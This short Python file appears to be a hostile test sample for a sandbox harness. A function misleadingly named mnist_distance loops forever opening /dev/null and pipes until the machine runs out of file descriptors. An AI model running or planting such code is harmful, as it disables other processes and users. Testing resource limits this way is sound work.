"""Opens files until no process on the machine can open any.

Must: its own limit comes first.
"""

# /// attack
# earns = { mnist_distance = [] }
# says = ["Too many open files"]
# ///
import os

hoard = []


def mnist_distance(a, b):
    while True:
        hoard.append(open("/dev/null"))
        hoard.extend(os.pipe())
